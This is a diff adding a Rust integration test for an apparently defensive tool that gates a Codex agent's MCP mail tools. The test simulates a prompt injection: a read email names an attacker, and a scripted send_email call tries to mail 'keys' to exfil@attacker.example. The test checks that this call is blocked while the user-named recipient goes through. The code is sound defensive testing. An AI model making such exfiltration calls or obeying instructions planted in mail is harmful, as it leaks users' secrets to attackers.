@@ -133,3 +133,91 @@ fn doctor_asks_codex_whether_it_trusts_the_hooks() {
         "{doctor}"
     );
 }
+
+/// One agent session across Codex's hooks and the MCP server `init` wrapped in
+/// `~/.codex/config.toml` (`[mcp_servers.mail]`; Codex offers its tools in the namespace
+/// `mcp__mail`): the attacker's address that only a mail names never reaches the server;
+/// the address the user typed does (the prompt hook vouches for it once Codex's session log
+/// holds the prompt).
+#[test]
+fn an_address_only_a_mail_named_never_reaches_the_server_and_one_the_prompt_named_does() {
+    let Some(codex) = Agent::codex() else {
+        return;
+    };
+    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
+    let record = w.base().join("record.jsonl");
+    let server = toolgate_testkit::bin_path("attack_server");
+    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
+    let policy = w.policy();
+    let policy = policy.to_str().unwrap();
+    let w = codex.world_with(w, exe, &["--policy", policy]);
+    let config = w.base().join("home/.codex/config.toml");
+    let mut text = std::fs::read_to_string(&config).unwrap();
+    text.push_str(&format!(
+        "\n[mcp_servers.mail]\ncommand = {}\nargs = [\"--kind\", \"mail\", \"--record\", {}]\n",
+        json!(server),
+        json!(record)
+    ));
+    std::fs::write(&config, text).unwrap();
+    let project = w.project().to_str().unwrap().to_owned();
+    codex.init(&w, exe, &["--policy", policy, "--workspace", &project]);
+    let wrapped = std::fs::read_to_string(&config).unwrap();
+    assert!(
+        wrapped.contains("args = [\"wrap\", \"--server\", \"mail\"")
+            && wrapped.contains("trusted_hash"),
+        "{wrapped}"
+    );
+    let script = vec![
+        call("mcp__mail.read_email", json!({"message_id": "1"})),
+        call(
+            "mcp__mail.send_email",
+            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
+        ),
+        call(
+            "mcp__mail.send_email",
+            json!({"to": ["bob@partner.example"], "subject": "notes", "body": "my notes"}),
+        ),
+    ];
+    let (mock, out) = codex.run(
+        &w,
+        "Read email 1, then send my notes to bob@partner.example",
+        script,
+        &[],
+    );
+    let results = mock.tool_results();
+    assert_eq!(results.len(), 3, "{results:?}\n{out}");
+    assert!(
+        results[0].contains("exfil@attacker.example"),
+        "the mail was not read: {results:?}"
+    );
+    assert!(results[1].contains("untrusted output"), "{results:?}");
+    let received: Vec<serde_json::Value> = std::fs::read_to_string(&record)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let names: Vec<(&str, String)> = received
+        .iter()
+        .map(|r| {
+            (
+                r["name"].as_str().unwrap(),
+                r["arguments"]["to"].to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        names,
+        [
+            ("read_email", "null".to_owned()),
+            ("send_email", "[\"bob@partner.example\"]".to_owned())
+        ],
+        "{results:?}"
+    );
+    // `unwrap` gives the server back as it was.
+    codex.unwrap(&w, exe);
+    let restored = std::fs::read_to_string(&config).unwrap();
+    assert!(
+        restored.contains(&format!("command = {}", json!(server))),
+        "{restored}"
+    );
+}
